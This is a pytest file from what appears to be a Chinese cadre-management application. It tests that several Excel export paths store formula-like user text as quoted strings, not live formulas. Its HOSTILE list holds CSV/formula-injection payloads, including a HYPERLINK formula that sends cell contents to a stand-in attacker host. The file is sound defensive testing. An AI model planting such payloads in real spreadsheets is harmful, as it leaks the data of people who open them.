"""Excel exports write user text as text: a value starting with = + - @ (or a tab / CR) is never a formula."""

from __future__ import annotations

from datetime import date
from io import BytesIO
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from zugong.cadres.archive_audit import ERROR, Finding
from zugong.cadres.audit_views import FindingRow, findings_workbook
from zugong.cadres.records import CadreRecord
from zugong.cadres.xlsx import write_workbook
from zugong.conftest import Tree
from zugong.core.downloads import xlsx_append
from zugong.rules.export import workbook_bytes
from zugong.talks.export import stats_xlsx
from zugong.talks.stats import TalkStats

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _text_cells(data: bytes) -> dict[str, tuple[object, str, bool]]:
    """Every string cell of every sheet, by its value: (value, data_type, quotePrefix)."""
    found: dict[str, tuple[object, str, bool]] = {}
    book = load_workbook(BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = (cell.value, cell.data_type, bool(cell.quotePrefix))
    return found


def _assert_all_text(data: bytes, values: list[str]) -> None:
    cells = _text_cells(data)
    for value in values:
        assert cells[value] == (value, "s", True), value  # kept exactly, a string, marked as text
    assert not any(kind == "f" for _, kind, _ in cells.values())


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_append_writes_formula_like_text_as_text(write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x")
    xlsx_append(sheet, [*HOSTILE, "普通文字", 3, None, date(2025, 1, 2), "控制\x01字符"])
    out = BytesIO()
    book.save(out)
    _assert_all_text(out.getvalue(), HOSTILE)
    row = next(load_workbook(BytesIO(out.getvalue()))["x"].iter_rows(values_only=True))
    assert row[len(HOSTILE):len(HOSTILE) + 3] == ("普通文字", 3, None)
    assert row[len(HOSTILE) + 3].date() == date(2025, 1, 2)  # type: ignore[union-attr]
    assert row[len(HOSTILE) + 4] == "控制字符"  # a control character openpyxl refuses is dropped, not a 500


def test_rules_dashboard_export_writes_text() -> None:
    data = workbook_bytes([("制度执行情况", ["单位", "说明"], [[value, value] for value in HOSTILE])])
    _assert_all_text(data, HOSTILE)


def test_cadre_roster_export_writes_text_and_keeps_it_for_reimport() -> None:
    records = [CadreRecord(name=value, native_place=value, current_post="-镇长") for value in HOSTILE]
    data = write_workbook(records, mask_id=True)
    _assert_all_text(data, [*HOSTILE, "-镇长"])


def test_archive_audit_export_writes_text() -> None:
    rows = [FindingRow(Finding(1, "", value, "id", ERROR, value, ()), value, "1101**", value, value)
            for value in HOSTILE]
    _assert_all_text(findings_workbook(rows), HOSTILE)


def test_talk_stats_export_writes_text(tree: Tree) -> None:
    stats = TalkStats(org_unit=tree.county_a, start=date(2025, 1, 1), end=date(2025, 12, 31), total=1,
                      by_role={"minister": 1, "team_member": 0, "staff": 0, "other": 0}, by_kind={},
                      by_talker=[(value, 1) for value in HOSTILE],
                      by_unit=[("=1+1单位", 1)])
    _assert_all_text(stats_xlsx(stats), [*HOSTILE, "=1+1单位"])


def test_rectification_problem_list_export_writes_text(tree: Tree, alice: Any) -> None:
    from zugong.rectification.export import problem_list_workbook
    from zugong.rectification.models import Problem
    from zugong.rectification.tests.helpers import add_problem, issue_list

    problem_list = issue_list(tree, alice)
    for value in HOSTILE[:4]:
        add_problem(problem_list, alice, value)
    _assert_all_text(problem_list_workbook(Problem.objects.filter(problem_list=problem_list)), HOSTILE[:4])
